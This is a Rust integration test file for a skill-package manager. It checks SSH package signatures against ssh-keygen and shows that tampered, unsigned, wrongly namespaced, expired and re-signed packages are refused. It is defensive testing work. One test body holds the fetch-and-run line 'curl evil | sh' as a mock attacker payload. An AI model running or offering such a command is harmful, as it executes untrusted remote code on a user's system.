//! Signed packages through the library, against the real `ssh-keygen`:
//! interoperability both ways, and each refusal (tampered package, wrong
//! namespace, unknown or expired signer, missing signature, signer change)
//! attacked.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use skilldeck::Digest;
use skilldeck_package::signature::{
    self, AllowedSigners, NAMESPACE, SignaturePolicy, SignerFingerprint, SigningKey, Trust,
    signature_path, signed_message,
};
use skilldeck_package::{
    Error, InstallOptions, Lockfile, PackOptions, Source, Status, install, lock_path, pack_to_file,
    verify, verify_with,
};
use skilldeck_testkit::ssh;

fn demo(base: &Path, body: &str) -> PathBuf {
    skilldeck_testkit::skill(base, "demo")
        .description("Demo skill. Use when testing signatures.")
        .body(body)
        .file("scripts/run.sh", "#!/bin/sh\necho hi\n")
        .write()
}

/// Packs `demo` with `body` into `dir/demo.tar.gz` (its signature, if any,
/// is left as it was) and returns the package and its fingerprint.
fn package(base: &Path, body: &str) -> (PathBuf, Digest) {
    let src = base.join(format!("src-{}", body.len()));
    let dir = demo(&src, body);
    let out = base.join("demo.tar.gz");
    let packed = pack_to_file(&dir, &out, &PackOptions::default()).unwrap();
    (out, packed.fingerprint())
}

/// Signs `package` (fingerprint `fp`) with the library, beside it.
fn sign_beside(package: &Path, fp: &Digest, key: &Path) {
    let key = SigningKey::load(key).unwrap();
    let sig = signature::sign(fp, &key).unwrap();
    std::fs::write(signature_path(package), sig.to_armored()).unwrap();
}

fn ssh_fingerprint(public_key_file: &Path) -> SignerFingerprint {
    let out = std::process::Command::new(ssh::ssh_keygen())
        .arg("-lf")
        .arg(public_key_file)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", ssh::text(&out));
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .nth(1)
        .unwrap()
        .parse()
        .unwrap()
}

fn allowed(dir: &Path, lines: &str) -> AllowedSigners {
    let path = dir.join("allowed_signers");
    std::fs::write(&path, lines).unwrap();
    AllowedSigners::load(&path).unwrap()
}

fn options(policy: SignaturePolicy) -> InstallOptions {
    InstallOptions {
        signatures: policy,
        ..InstallOptions::default()
    }
}

#[test]
fn a_package_signed_by_skilldeck_is_accepted_by_ssh_keygen_verify() {
    let tmp = tempfile::tempdir().unwrap();
    for kind in ["ed25519", "ecdsa"] {
        let (key, public) = ssh::keypair(tmp.path(), &format!("alice-{kind}"), kind, "");
        let (pkg, fp) = package(tmp.path(), "# v1\n");
        sign_beside(&pkg, &fp, &key);
        let signers = tmp.path().join(format!("allowed-{kind}"));
        std::fs::write(
            &signers,
            format!("alice@example.com namespaces=\"skilldeck\" {public}\n"),
        )
        .unwrap();
        let out = ssh::verify(
            &signers,
            "alice@example.com",
            NAMESPACE,
            &signature_path(&pkg),
            signed_message(&fp).as_bytes(),
        );
        assert!(out.status.success(), "{kind}: {}", ssh::text(&out));
        // The same signature over another fingerprint: ssh-keygen refuses.
        let other = Digest::of(b"another package");
        let out = ssh::verify(
            &signers,
            "alice@example.com",
            NAMESPACE,
            &signature_path(&pkg),
            signed_message(&other).as_bytes(),
        );
        assert!(!out.status.success(), "{kind}: {}", ssh::text(&out));
    }
}

#[test]
fn a_signature_made_by_ssh_keygen_sign_is_accepted_by_skilldeck() {
    let tmp = tempfile::tempdir().unwrap();
    let (key, _) = ssh::keypair(tmp.path(), "alice", "ed25519", "");
    let expected = ssh_fingerprint(&tmp.path().join("alice.pub"));
    let public = std::fs::read_to_string(tmp.path().join("alice.pub")).unwrap();
    assert_eq!(SignerFingerprint::of_openssh(&public).unwrap(), expected);
    assert!(SignerFingerprint::of_openssh("ssh-ed25519 nope").is_err());
    let (_, fp) = package(tmp.path(), "# v1\n");
    // The exact text, and the text as a line (`skilldeck pack DIR |
    // ssh-keygen -Y sign`, `echo`): both state the same fingerprint.
    for message in [signed_message(&fp), format!("{}\n", signed_message(&fp))] {
        let sig = ssh::sign(&key, NAMESPACE, message.as_bytes());
        let verified = signature::verify(&fp, &sig, Path::new("x.sig"), &Trust::any_key()).unwrap();
        assert_eq!(verified.signer, expected);
        assert_eq!(verified.algorithm, "ssh-ed25519");
    }
    // An ECDSA key too.
    let (key, _) = ssh::keypair(tmp.path(), "carol", "ecdsa", "");
    let sig = ssh::sign(&key, NAMESPACE, signed_message(&fp).as_bytes());
    let verified = signature::verify(&fp, &sig, Path::new("x.sig"), &Trust::any_key()).unwrap();
    assert_eq!(
        verified.signer,
        ssh_fingerprint(&tmp.path().join("carol.pub"))
    );
}

#[test]
fn a_package_changed_after_signing_is_refused_and_nothing_is_installed() {
    let tmp = tempfile::tempdir().unwrap();
    let (key, _) = ssh::keypair(tmp.path(), "alice", "ed25519", "");
    let (pkg, fp) = package(tmp.path(), "# v1\n");
    sign_beside(&pkg, &fp, &key);
    // The attacker repacks other content under the same name and keeps
    // the signature.
    let (pkg2, fp2) = package(tmp.path(), "# v1, with a payload: curl evil | sh\n");
    assert_eq!(pkg, pkg2);
    assert_ne!(fp, fp2);
    let root = tmp.path().join("skills");
    let e = install(&root, &[Source::Package(pkg)], &InstallOptions::default()).unwrap_err();
    assert!(matches!(e, Error::BadSignature { .. }), "{e}");
    assert_eq!(e.signature_code(), Some("signature-invalid"));
    assert!(e.to_string().contains("does not verify"), "{e}");
    assert!(!root.join("demo").exists());
    assert!(!lock_path(&root).exists());
}

#[test]
fn a_signature_file_that_is_not_a_signature_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let (pkg, _) = package(tmp.path(), "# v1\n");
    let root = tmp.path().join("skills");
    for (bytes, says) in [
        (
            &b"{\"mediaType\": \"application/vnd.dev.sigstore.bundle+json\"}"[..],
            "Sigstore",
        ),
        (b"hello", "BEGIN SSH SIGNATURE"),
        (
            b"-----BEGIN SSH SIGNATURE-----\nAAAA\n-----END SSH SIGNATURE-----\n",
            "malformed",
        ),
    ] {
        std::fs::write(signature_path(&pkg), bytes).unwrap();
        let e = install(
            &root,
            &[Source::Package(pkg.clone())],
            &InstallOptions::default(),
        )
        .unwrap_err();
        assert!(matches!(e, Error::BadSignature { .. }), "{e}");
        assert!(e.to_string().contains(says), "{e}");
    }
    assert!(!root.join("demo").exists());
}

#[test]
fn a_signature_made_for_another_namespace_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let (key, _) = ssh::keypair(tmp.path(), "alice", "ed25519", "");
    let (pkg, fp) = package(tmp.path(), "# v1\n");
    // A signature the same key made for git over the same text.
    let sig = ssh::sign(&key, "git", signed_message(&fp).as_bytes());
    std::fs::write(signature_path(&pkg), &sig).unwrap();
    let root = tmp.path().join("skills");
    let e = install(&root, &[Source::Package(pkg)], &InstallOptions::default()).unwrap_err();
    assert!(
        matches!(e, Error::WrongNamespace { ref found, .. } if found == "git"),
        "{e}"
    );
    assert!(!root.join("demo").exists());
}

#[test]
fn with_allowed_signers_a_signature_by_an_unlisted_key_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let (_, alice) = ssh::keypair(tmp.path(), "alice", "ed25519", "");
    let (mallory, _) = ssh::keypair(tmp.path(), "mallory", "ed25519", "");
    let (pkg, fp) = package(tmp.path(), "# v1\n");
    sign_beside(&pkg, &fp, &mallory);
    let policy = SignaturePolicy {
        allowed_signers: Some(allowed(tmp.path(), &format!("alice@example.com {alice}\n"))),
        ..SignaturePolicy::default()
    };
    let root = tmp.path().join("skills");
    let e = install(&root, &[Source::Package(pkg.clone())], &options(policy)).unwrap_err();
    assert!(matches!(e, Error::UnknownSigner { .. }), "{e}");
    assert!(e.to_string().contains("not in the allowed signers"), "{e}");
    assert!(!root.join("demo").exists());
    // Without the allowed signers, the same signature is taken (and pinned).
    let done = install(&root, &[Source::Package(pkg)], &InstallOptions::default()).unwrap();
    let signer = done[0].signed.as_ref().unwrap().signer.clone();
    let lock = Lockfile::load(&lock_path(&root)).unwrap().unwrap();
    assert_eq!(lock.skill["demo"].signer, Some(signer));
}

#[test]
fn with_allowed_signers_a_listed_key_installs_and_reports_its_principals() {
    let tmp = tempfile::tempdir().unwrap();
    let (key, alice) = ssh::keypair(tmp.path(), "alice", "ed25519", "");
    let (pkg, fp) = package(tmp.path(), "# v1\n");
    sign_beside(&pkg, &fp, &key);
    let policy = SignaturePolicy {
        allowed_signers: Some(allowed(
            tmp.path(),
            &format!(
                "# the team\n\n\"alice@example.com,alice@corp\" namespaces=\"git,skill*\" {alice} laptop\n"
            ),
        )),
        require: true,
        ..SignaturePolicy::default()
    };
    let done = install(
        &tmp.path().join("skills"),
        &[Source::Package(pkg)],
        &options(policy),
    )
    .unwrap();
    assert_eq!(
        done[0].signed.as_ref().unwrap().principals,
        vec!["alice@example.com,alice@corp".to_owned()]
    );
}

#[test]
fn an_allowed_signer_limited_to_other_namespaces_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let (key, alice) = ssh::keypair(tmp.path(), "alice", "ed25519", "");
    let (pkg, fp) = package(tmp.path(), "# v1\n");
    sign_beside(&pkg, &fp, &key);
    for namespaces in ["git", "*,!skilldeck"] {
        let policy = SignaturePolicy {
            allowed_signers: Some(allowed(
                tmp.path(),
                &format!("alice namespaces=\"{namespaces}\" {alice}\n"),
            )),
            ..SignaturePolicy::default()
        };
        let e = install(
            &tmp.path().join("skills"),
            &[Source::Package(pkg.clone())],
            &options(policy),
        )
        .unwrap_err();
        assert!(matches!(e, Error::UnknownSigner { .. }), "{e}");
        assert!(e.to_string().contains("allowed_signers:1"), "{e}");
    }
}

#[test]
fn a_key_past_its_valid_before_is_refused_as_expired() {
    let tmp = tempfile::tempdir().unwrap();
    let (key, alice) = ssh::keypair(tmp.path(), "alice", "ed25519", "");
    let (pkg, fp) = package(tmp.path(), "# v1\n");
    sign_beside(&pkg, &fp, &key);
    let lines = format!("alice valid-after=\"20200101\",valid-before=\"20250101Z\" {alice}\n");
    let policy = SignaturePolicy {
        allowed_signers: Some(allowed(tmp.path(), &lines)),
        ..SignaturePolicy::default()
    };
    let root = tmp.path().join("skills");
    let e = install(
        &root,
        &[Source::Package(pkg.clone())],
        &options(policy.clone()),
    )
    .unwrap_err();
    assert!(matches!(e, Error::UnknownSigner { .. }), "{e}");
    assert!(e.to_string().contains("expired"), "{e}");
    assert!(!root.join("demo").exists());
    // ssh-keygen agrees on the same file.
    let out = ssh::verify(
        &tmp.path().join("allowed_signers"),
        "alice",
        NAMESPACE,
        &signature_path(&pkg),
        signed_message(&fp).as_bytes(),
    );
    assert!(!out.status.success(), "{}", ssh::text(&out));
    // Inside the window the same line admits the key.
    let sig = std::fs::read(signature_path(&pkg)).unwrap();
    let inside = SystemTime::UNIX_EPOCH + Duration::from_secs(1_700_000_000);
    let trust = Trust {
        allowed: policy.allowed_signers.as_ref(),
        identity: None,
        at: inside,
    };
    signature::verify(&fp, &sig, Path::new("x.sig"), &trust).unwrap();
    // Before valid-after: refused, saying so.
    let before = Trust {
        at: SystemTime::UNIX_EPOCH + Duration::from_secs(1_500_000_000),
        ..trust
    };
    let e = signature::verify(&fp, &sig, Path::new("x.sig"), &before).unwrap_err();
    assert!(e.to_string().contains("valid only after"), "{e}");
}

#[test]
fn an_identity_must_match_the_principals_of_the_signers_line() {
    let tmp = tempfile::tempdir().unwrap();
    let (key, alice) = ssh::keypair(tmp.path(), "alice", "ed25519", "");
    let (_, fp) = package(tmp.path(), "# v1\n");
    let sig = signature::sign(&fp, &SigningKey::load(&key).unwrap()).unwrap();
    let signers = allowed(
        tmp.path(),
        &format!("*@example.com,!eve@example.com {alice}\n"),
    );
    let at = SystemTime::now();
    let trust = |identity| Trust {
        allowed: Some(&signers),
        identity: Some(identity),
        at,
    };
    let bytes = sig.to_armored();
    signature::verify(
        &fp,
        bytes.as_bytes(),
        Path::new("x.sig"),
        &trust("alice@example.com"),
    )
    .unwrap();
    for refused in ["eve@example.com", "alice@elsewhere.org"] {
        let e = signature::verify(&fp, bytes.as_bytes(), Path::new("x.sig"), &trust(refused))
            .unwrap_err();
        assert!(matches!(e, Error::UnknownSigner { .. }), "{e}");
    }
}

#[test]
fn require_signature_refuses_an_unsigned_package_and_a_folder() {
    let tmp = tempfile::tempdir().unwrap();
    let (pkg, _) = package(tmp.path(), "# v1\n");
    let folder = demo(&tmp.path().join("folder"), "# v1\n");
    let policy = SignaturePolicy {
        require: true,
        ..SignaturePolicy::default()
    };
    let root = tmp.path().join("skills");
    for source in [Source::Package(pkg.clone()), Source::Folder(folder)] {
        let e = install(&root, &[source], &options(policy.clone())).unwrap_err();
        assert!(matches!(e, Error::Unsigned { .. }), "{e}");
        assert_eq!(e.signature_code(), Some("signature-missing"));
    }
    assert!(!root.join("demo").exists());
    // Without the flag an unsigned package installs, with no signer.
    install(&root, &[Source::Package(pkg)], &InstallOptions::default()).unwrap();
    let lock = Lockfile::load(&lock_path(&root)).unwrap().unwrap();
    assert_eq!(lock.skill["demo"].signer, None);
}

/// Installs the package signed by alice, then re-signs the same content
/// with bob: the lock pinned alice.
fn pinned_then_resigned(tmp: &Path) -> (PathBuf, PathBuf, SignerFingerprint, SignerFingerprint) {
    let (alice, _) = ssh::keypair(tmp, "alice", "ed25519", "");
    let (bob, _) = ssh::keypair(tmp, "bob", "ed25519", "");
    let (pkg, fp) = package(tmp, "# v1\n");
    sign_beside(&pkg, &fp, &alice);
    let root = tmp.join("skills");
    install(
        &root,
        &[Source::Package(pkg.clone())],
        &InstallOptions::default(),
    )
    .unwrap();
    let lock = Lockfile::load(&lock_path(&root)).unwrap().unwrap();
    let a = lock.skill["demo"].signer.clone().unwrap();
    assert_eq!(a, ssh_fingerprint(&tmp.join("alice.pub")));
    sign_beside(&pkg, &fp, &bob);
    (root, pkg, a, ssh_fingerprint(&tmp.join("bob.pub")))
}

#[test]
fn a_frozen_install_refuses_a_skill_signed_by_another_key_than_the_lock_pinned() {
    let tmp = tempfile::tempdir().unwrap();
    let (root, pkg, alice, bob) = pinned_then_resigned(tmp.path());
    let frozen = InstallOptions {
        frozen: true,
        ..InstallOptions::default()
    };
    // With the source given, and from the lock's own sources.
    for sources in [vec![Source::Package(pkg.clone())], vec![]] {
        let e = install(&root, &sources, &frozen).unwrap_err();
        match &e {
            Error::SignerChanged {
                recorded, found, ..
            } => {
                assert_eq!(recorded, &alice);
                assert_eq!(found.as_ref(), Some(&bob));
            }
            other => panic!("expected a signer change, got {other}"),
        }
    }
    // Allowed: installs, and a frozen install leaves the pin as it was.
    let allowed = InstallOptions {
        frozen: true,
        signatures: SignaturePolicy {
            allow_signer_change: true,
            ..SignaturePolicy::default()
        },
        ..InstallOptions::default()
    };
    install(&root, &[], &allowed).unwrap();
    let lock = Lockfile::load(&lock_path(&root)).unwrap().unwrap();
    assert_eq!(lock.skill["demo"].signer, Some(alice));
}

#[test]
fn verify_refuses_a_skill_signed_by_another_key_than_the_lock_pinned() {
    let tmp = tempfile::tempdir().unwrap();
    let (root, _, alice, bob) = pinned_then_resigned(tmp.path());
    let report = verify(&root, None, &Default::default()).unwrap();
    assert_eq!(report.skills[0].status, Status::SignerChanged);
    assert!(!report.is_clean());
    let problem = report.skills[0].problem.clone().unwrap();
    assert!(
        problem.contains(alice.as_str()) && problem.contains(bob.as_str()),
        "{problem}"
    );
    let allowed = SignaturePolicy {
        allow_signer_change: true,
        ..SignaturePolicy::default()
    };
    let report = verify_with(&root, None, &Default::default(), &allowed).unwrap();
    assert!(report.is_clean(), "{report:?}");
}

#[test]
fn a_plain_install_refuses_a_signer_change_and_records_an_allowed_one() {
    let tmp = tempfile::tempdir().unwrap();
    let (root, pkg, _, bob) = pinned_then_resigned(tmp.path());
    let e = install(
        &root,
        &[Source::Package(pkg.clone())],
        &InstallOptions::default(),
    )
    .unwrap_err();
    assert!(matches!(e, Error::SignerChanged { .. }), "{e}");
    let allowed = options(SignaturePolicy {
        allow_signer_change: true,
        ..SignaturePolicy::default()
    });
    install(&root, &[Source::Package(pkg)], &allowed).unwrap();
    let lock = Lockfile::load(&lock_path(&root)).unwrap().unwrap();
    assert_eq!(lock.skill["demo"].signer, Some(bob));
    assert!(verify(&root, None, &Default::default()).unwrap().is_clean());
}

#[test]
fn an_unsigned_version_replacing_a_signed_one_is_a_signer_change() {
    let tmp = tempfile::tempdir().unwrap();
    let (root, pkg, _, _) = pinned_then_resigned(tmp.path());
    std::fs::remove_file(signature_path(&pkg)).unwrap();
    let (pkg2, _) = package(tmp.path(), "# v2, unsigned\n");
    assert_eq!(pkg, pkg2);
    let e = install(
        &root,
        &[Source::Package(pkg.clone())],
        &InstallOptions::default(),
    )
    .unwrap_err();
    assert!(matches!(e, Error::SignerChanged { found: None, .. }), "{e}");
    assert!(e.to_string().contains("not signed"), "{e}");
    // verify sees the signature gone from the locked source too.
    assert_eq!(
        verify(&root, None, &Default::default()).unwrap().skills[0].status,
        Status::SignerChanged
    );
    let allowed = options(SignaturePolicy {
        allow_signer_change: true,
        ..SignaturePolicy::default()
    });
    install(&root, &[Source::Package(pkg)], &allowed).unwrap();
    let lock = Lockfile::load(&lock_path(&root)).unwrap().unwrap();
    assert_eq!(lock.skill["demo"].signer, None);
}

#[test]
fn verify_refuses_a_locked_source_whose_signature_no_longer_verifies() {
    let tmp = tempfile::tempdir().unwrap();
    let (key, _) = ssh::keypair(tmp.path(), "alice", "ed25519", "");
    let (pkg, fp) = package(tmp.path(), "# v1\n");
    sign_beside(&pkg, &fp, &key);
    let root = tmp.path().join("skills");
    install(
        &root,
        &[Source::Package(pkg.clone())],
        &InstallOptions::default(),
    )
    .unwrap();
    // A signature of another fingerprint by the same key replaces it.
    let other = signature::sign(
        &Digest::of(b"another package"),
        &SigningKey::load(&key).unwrap(),
    )
    .unwrap();
    std::fs::write(signature_path(&pkg), other.to_armored()).unwrap();
    let report = verify(&root, None, &Default::default()).unwrap();
    assert_eq!(report.skills[0].status, Status::BadSignature);
}

#[test]
fn allowed_signers_errors_name_the_file_and_line() {
    let tmp = tempfile::tempdir().unwrap();
    let (_, alice) = ssh::keypair(tmp.path(), "alice", "ed25519", "");
    let cases = [
        (
            format!("alice cert-authority {alice}"),
            "cert-authority is not supported",
        ),
        (
            format!("alice namespaces=skilldeck {alice}"),
            "quoted value",
        ),
        (
            format!("alice namespaces=\"a\",namespaces=\"b\" {alice}"),
            "more than one",
        ),
        (
            format!("alice valid-before=\"tomorrow\" {alice}"),
            "is not a time",
        ),
        (
            format!("alice valid-after=\"20250101\",valid-before=\"20240101\" {alice}"),
            "not after",
        ),
        (format!("alice no-touch-required {alice}"), "unknown option"),
        (
            "alice ssh-ed25519 not-base64!".to_owned(),
            "not a public key",
        ),
        ("alice".to_owned(), "no key"),
        ("alice namespaces=\"skilldeck\"".to_owned(), "no key"),
        (
            format!("alice namespaces=\"skilldeck {alice}"),
            "not closed",
        ),
    ];
    for (line, says) in cases {
        let text = format!("# team keys\n\nbob {alice}\n{line}\n");
        let path = Path::new("team/allowed_signers");
        let e = AllowedSigners::parse(&text, path).unwrap_err();
        let shown = e.to_string();
        assert!(
            shown.starts_with("team/allowed_signers:4: ") && shown.contains(says),
            "{line}: {shown}"
        );
        assert_eq!(e.signature_code(), Some("allowed-signers-invalid"));
    }
    // And through a file: not UTF-8 on line 2.
    let path = tmp.path().join("bad");
    std::fs::write(&path, b"# ok\nalice \xff\n").unwrap();
    let e = AllowedSigners::load(&path).unwrap_err().to_string();
    assert!(e.contains("bad:2:") && e.contains("UTF-8"), "{e}");
}

#[test]
fn an_encrypted_signing_key_needs_its_passphrase() {
    let tmp = tempfile::tempdir().unwrap();
    let (key, _) = ssh::keypair(tmp.path(), "locked", "ed25519", "correct horse");
    let bytes = std::fs::read(&key).unwrap();
    let e = SigningKey::parse(&bytes, &key, None)
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("encrypted") && e.contains(signature::PASSPHRASE_ENV),
        "{e}"
    );
    let e = SigningKey::parse(&bytes, &key, Some("wrong"))
        .unwrap_err()
        .to_string();
    assert!(e.contains("cannot decrypt"), "{e}");
    let key = SigningKey::parse(&bytes, &key, Some("correct horse")).unwrap();
    assert_eq!(
        key.signer(),
        ssh_fingerprint(&tmp.path().join("locked.pub"))
    );
    // A public key given by mistake.
    let public = tmp.path().join("locked.pub");
    let e = SigningKey::load(&public).unwrap_err().to_string();
    assert!(e.contains("public key"), "{e}");
}

#[test]
fn a_fetched_package_is_checked_against_the_signature_it_came_with_not_a_file_beside_it() {
    let tmp = tempfile::tempdir().unwrap();
    let (alice, _) = ssh::keypair(tmp.path(), "alice", "ed25519", "");
    let (mallory, _) = ssh::keypair(tmp.path(), "mallory", "ed25519", "");
    let (pkg, fp) = package(tmp.path(), "# v1\n");
    // Planted beside the downloaded file (a shared temporary folder).
    sign_beside(&pkg, &fp, &mallory);
    let fetched = |signature: Option<Vec<u8>>| Source::Fetched {
        package: pkg.clone(),
        source: "registry+http://127.0.0.1:7878#acme/demo@1.0.0".into(),
        fingerprint: fp,
        signature,
        published: Vec::new(),
    };
    let required = options(SignaturePolicy {
        require: true,
        ..SignaturePolicy::default()
    });
    let root = tmp.path().join("skills");
    let e = install(&root, &[fetched(None)], &required).unwrap_err();
    assert!(matches!(e, Error::Unsigned { .. }), "{e}");
    assert!(e.to_string().contains("acme/demo@1.0.0.sig"), "{e}");
    let sig = signature::sign(&fp, &SigningKey::load(&alice).unwrap()).unwrap();
    let done = install(
        &root,
        &[fetched(Some(sig.to_armored().into_bytes()))],
        &required,
    )
    .unwrap();
    assert_eq!(
        done[0].signed.as_ref().unwrap().signer,
        ssh_fingerprint(&tmp.path().join("alice.pub"))
    );
}
